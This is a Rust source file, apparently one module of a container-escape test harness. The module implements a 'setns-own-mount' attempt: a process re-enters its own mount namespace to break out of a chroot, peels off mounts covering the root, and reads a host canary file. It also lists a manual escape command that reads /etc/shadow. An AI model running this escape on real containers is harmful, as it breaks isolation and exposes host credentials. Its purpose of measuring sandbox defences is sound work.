//! setns-own-mount: enter the mount namespace that one is in.

use super::{Attempt, Measured, Need};
use crate::attacker::{Failed, unless_refused};
use crate::refusals::Refusal;
use crate::{Attacker, Host, Seen};
use nix::libc;

/// The attempt.
pub const ATTEMPT: Attempt = Attempt {
    id: "setns-own-mount",
    stake: "The host's whole file tree, as far as it is still mounted anywhere in the container's \
            namespace.",
    story: "setns(2) into a mount namespace sets the caller's root and working directory to the root \
            of that namespace. The attacker enters the one that it is in already: if its root was \
            only a chroot, the way out is this one call. Mounts that are hidden by a chroot are \
            still mounted. After pivot_root(2) the root of the namespace is the root file system \
            itself, and without CAP_SYS_ADMIN the call is refused.",
    by_hand: &[
        "[ -e /proc/self ] || mount -t proc proc /proc",
        "nsenter --mount=/proc/self/ns/mnt cat /etc/shadow    # the host's: escaped",
    ],
    stopped_by: &["lab3-pivot/pivot-root"],
    after: &[],
    man: &["setns(2)", "pivot_root(2)", "mount_namespaces(7)"],
    letters: Measured { root: "E EEEBBBB", user: "E EEEBBBB", rootless: "E EEEBBBB" },
    needs: &[Need::FreshHost],
    decisive: &[
        libc::SYS_pidfd_open,
        libc::SYS_setns,
        libc::SYS_openat,
        libc::SYS_openat2,
        libc::SYS_pread64,
    ],
    attack,
    class: Refusal::Root,
    witness,
};

/// No more mounts than these lie over one another at the root.
const MAX_COVERS: usize = 256;

/// Kinds of namespaces that change nothing when they are its own.
const OTHERS: [i32; 5] =
    [libc::CLONE_NEWUTS, libc::CLONE_NEWIPC, libc::CLONE_NEWNET, libc::CLONE_NEWCGROUP, libc::CLONE_NEWPID];

fn attack(me: &mut Attacker) -> Result<(), Failed> {
    let (_, root) = me.root()?;
    // Of a namespace it takes its kind or none; of a process kinds, of which one may be named alone or not.
    let known = [libc::CLONE_NEWNS, libc::CLONE_NEWNS | libc::CLONE_NEWUTS];
    let kinds = [vec![libc::CLONE_NEWNS, 0], me.varied(&known, &OTHERS), me.varied(&known, &OTHERS)];
    let ways: [fn(&mut Attacker) -> Result<i32, Failed>; 3] =
        [own_namespace, |me| me.child_by_descriptor(), |me| me.pidfd_of_itself()];
    let mut handles = Vec::new();
    // All before one is used: what refuses is told by the last call.
    for (way, kinds) in ways.into_iter().zip(kinds) {
        handles.extend(unless_refused(way(me))?.map(|handle| (handle, kinds)));
    }
    if handles.is_empty() {
        return me.pidfd_of_itself().map(drop);
    }
    let mut entered = me.gives_up("it has no handle of its own mount namespace");
    for (handle, kinds) in handles {
        entered = me.with_each(kinds, |me, kinds| me.setns(handle, kinds)).map(|()| handle);
        if !matches!(entered, Err(Failed::Refused(_))) {
            break;
        }
    }
    let handle = entered?;
    match me.take_canary_above(libc::AT_FDCWD, root) {
        Err(Failed::Refused(_)) => {}
        done => return done,
    }
    // A root that was only moved over the old one covers it, perhaps more than one.
    let mut covers = 0;
    while covers < MAX_COVERS && me.uncovers_root(handle)? {
        covers += 1;
        // The host's root may be taken off as well.
        match me.take_canary_above(libc::AT_FDCWD, root) {
            Err(Failed::Refused(_) | Failed::GaveUp(_)) => {}
            done => return done,
        }
    }
    if covers == MAX_COVERS {
        return me.gives_up("there is no end to what is mounted over its root");
    }
    let top = me.climb(libc::AT_FDCWD)?;
    me.take_canary(top, &[""])
}

/// Its namespace by a procfs: the one that is there, or one that it mounts.
fn own_namespace(me: &mut Attacker) -> Result<i32, Failed> {
    match me.open("/proc/self/ns/mnt", libc::O_RDONLY) {
        Err(Failed::Refused(_)) => {
            let procfs = me.new_procfs()?;
            me.open(&format!("{procfs}/self/ns/mnt"), libc::O_RDONLY)
        }
        opened => opened,
    }
}

fn witness(host: &Host) -> Seen {
    if host.took("canary") {
        return Seen::Effect(
            "the root of the container's mount namespace is the host's: the attacker has read a file there"
                .into(),
        );
    }
    Seen::Nothing
}
